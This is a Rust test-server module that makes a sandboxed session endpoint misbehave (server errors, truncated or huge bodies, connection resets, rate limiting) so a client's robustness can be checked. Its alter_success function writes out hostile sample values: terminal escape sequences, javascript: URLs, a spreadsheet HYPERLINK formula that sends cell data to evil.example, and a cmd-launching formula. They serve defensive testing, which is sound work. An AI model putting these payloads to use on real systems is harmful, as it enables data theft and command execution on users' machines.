//! The misbehaviours a test can ask of POST /v1/sessions: each imitates something a real
//! network, proxy or broken server does, so the client's handling of it can be proven.

use axum::body::{Body, Bytes};
use axum::http::{HeaderValue, StatusCode, header};
use axum::response::{IntoResponse, Response};
use serde_json::{Value, json};

use super::Fault;
use super::server::fail;

/// The answer that replaces normal processing, or `None` for faults that alter a success.
pub(crate) fn instead_of_processing(fault: &Fault, base_url: &str) -> Option<Response> {
    let session_id = uuid::Uuid::new_v4();
    Some(match fault {
        Fault::Status500 => fail(
            StatusCode::INTERNAL_SERVER_ERROR,
            500,
            "Internal server error (sandbox fault Status500).",
        ),
        Fault::Html502 => (
            StatusCode::BAD_GATEWAY,
            [(header::CONTENT_TYPE, "text/html")],
            "<html>\r\n<head><title>502 Bad Gateway</title></head>\r\n<body>\r\n\
             <center><h1>502 Bad Gateway</h1></center>\r\n<hr><center>nginx</center>\r\n\
             </body>\r\n</html>\r\n",
        )
            .into_response(),
        Fault::TooMany429 => {
            let mut r = fail(
                StatusCode::TOO_MANY_REQUESTS,
                429,
                "Too many requests (sandbox fault TooMany429).",
            );
            r.headers_mut()
                .insert(header::RETRY_AFTER, HeaderValue::from_static("60"));
            r
        }
        Fault::TruncatedJson => {
            let full = success_body(base_url, &session_id.to_string());
            let half = full.as_bytes()[..full.len() / 2].to_vec();
            json_response(Body::from(half))
        }
        Fault::ResetMidBody => {
            let full = success_body(base_url, &session_id.to_string());
            let sent = Bytes::from(full.as_bytes()[..full.len() / 2].to_vec());
            // Hyper sends what it has while the body is pending, then drops the connection
            // when the stream errors, short of the Content-Length it announced.
            let stream = futures_util::stream::unfold(Some(sent), |first| async move {
                match first {
                    Some(bytes) => Some((Ok(bytes), None)),
                    None => {
                        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
                        Some((
                            Err(std::io::Error::other("sandbox fault ResetMidBody")),
                            None,
                        ))
                    }
                }
            });
            let mut r = json_response(Body::from_stream(stream));
            r.headers_mut()
                .insert(header::CONTENT_LENGTH, HeaderValue::from(full.len()));
            r
        }
        Fault::Huge => {
            // Valid JSON, so only a size limit can catch it; chunked, so no header warns.
            let head = format!(
                r#"{{"status":"success","verification":{},"padding":""#,
                verification(base_url, &session_id.to_string())
            );
            let pad = Bytes::from(vec![b'x'; 64 * 1024]);
            let mut chunks: Vec<Result<Bytes, std::io::Error>> = vec![Ok(Bytes::from(head))];
            // 24 x 64 KiB = 1.5 MiB of padding.
            chunks.extend((0..24).map(|_| Ok(pad.clone())));
            chunks.push(Ok(Bytes::from_static(b"\"}")));
            json_response(Body::from_stream(futures_util::stream::iter(chunks)))
        }
        Fault::NonUtf8 => {
            let mut bytes = br#"{"status":"success","verification":{"id":""#.to_vec();
            bytes.extend_from_slice(session_id.to_string().as_bytes());
            bytes.extend_from_slice(br#"","url":""#);
            bytes.extend_from_slice(base_url.as_bytes());
            bytes.extend_from_slice(b"/v/\xff\xfe\xc3(");
            bytes.extend_from_slice(br#"","status":"created"}}"#);
            json_response(Body::from(bytes))
        }
        Fault::Flaky(flaky) => return flaky.next_answer(),
        Fault::Delay(_)
        | Fault::MissingUrl
        | Fault::UrlWithEscape
        | Fault::NonHttpUrl
        | Fault::FormulaId
        | Fault::HugeUrl
        | Fault::OddFields => {
            return None;
        }
    })
}

/// A server under load, as a batch meets one: of the requests it receives (counted from 1),
/// every `every_429`-th is answered 429 with `Retry-After: retry_after_secs`, else every
/// `every_500`-th 500 (no session made either way); the rest are served. 0 turns one off.
/// Clones share the count, so one fault set on a sandbox counts all its requests.
#[derive(Debug, Clone)]
pub struct Flaky {
    pub every_429: u64,
    pub every_500: u64,
    pub retry_after_secs: u64,
    seen: std::sync::Arc<std::sync::atomic::AtomicU64>,
    /// 429s and 500s answered so far.
    refused: std::sync::Arc<(std::sync::atomic::AtomicU64, std::sync::atomic::AtomicU64)>,
}

impl PartialEq for Flaky {
    fn eq(&self, other: &Self) -> bool {
        std::sync::Arc::ptr_eq(&self.seen, &other.seen)
    }
}

impl Eq for Flaky {}

impl Flaky {
    pub fn new(every_429: u64, every_500: u64, retry_after_secs: u64) -> Flaky {
        Flaky {
            every_429,
            every_500,
            retry_after_secs,
            seen: Default::default(),
            refused: Default::default(),
        }
    }

    /// How many requests were answered 429, and how many 500.
    pub fn refused(&self) -> (u64, u64) {
        use std::sync::atomic::Ordering::SeqCst;
        (self.refused.0.load(SeqCst), self.refused.1.load(SeqCst))
    }

    fn next_answer(&self) -> Option<Response> {
        use std::sync::atomic::Ordering::SeqCst;
        let n = self.seen.fetch_add(1, SeqCst) + 1;
        let nth = |every: u64| every > 0 && n.is_multiple_of(every);
        if nth(self.every_429) {
            self.refused.0.fetch_add(1, SeqCst);
            let mut r = fail(
                StatusCode::TOO_MANY_REQUESTS,
                429,
                "Too many requests (sandbox fault Flaky).",
            );
            r.headers_mut().insert(
                header::RETRY_AFTER,
                HeaderValue::from(self.retry_after_secs),
            );
            return Some(r);
        }
        if nth(self.every_500) {
            self.refused.1.fetch_add(1, SeqCst);
            return Some(fail(
                StatusCode::INTERNAL_SERVER_ERROR,
                500,
                "Internal server error (sandbox fault Flaky).",
            ));
        }
        None
    }
}

/// Alters the `verification` object of a real success answer.
pub(crate) fn alter_success(fault: &Fault, verification: &mut Value) {
    let Some(v) = verification.as_object_mut() else {
        return;
    };
    let url = v
        .get("url")
        .and_then(Value::as_str)
        .unwrap_or_default()
        .to_string();
    match fault {
        Fault::MissingUrl => {
            v.remove("url");
        }
        Fault::UrlWithEscape => {
            // OSC 52 would set the clipboard, CSI 2 J would clear the screen, BEL beeps.
            v.insert(
                "url".into(),
                json!(format!("{url}\u{1b}]52;c;ZXZpbA==\u{7}\u{1b}[2J")),
            );
        }
        Fault::NonHttpUrl => {
            v.insert("url".into(), json!("javascript:alert(document.cookie)"));
        }
        Fault::FormulaId => {
            v.insert(
                "id".into(),
                json!("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
            );
        }
        Fault::HugeUrl => {
            v.insert("url".into(), json!(format!("{url}{}", "A".repeat(900_000))));
        }
        Fault::OddFields => {
            v.insert("status".into(), json!("=cmd|' /C calc'!A0"));
            v.insert("host".into(), json!("javascript:alert(1)"));
        }
        _ => {}
    }
}

fn verification(base_url: &str, id: &str) -> Value {
    json!({
        "id": id,
        "url": format!("{base_url}/v/not-a-real-token"),
        "vendorData": null,
        "host": base_url,
        "status": "created",
        "sessionToken": "not-a-real-token",
    })
}

fn success_body(base_url: &str, id: &str) -> String {
    json!({"status": "success", "verification": verification(base_url, id)}).to_string()
}

fn json_response(body: Body) -> Response {
    (
        StatusCode::CREATED,
        [(header::CONTENT_TYPE, "application/json")],
        body,
    )
        .into_response()
}
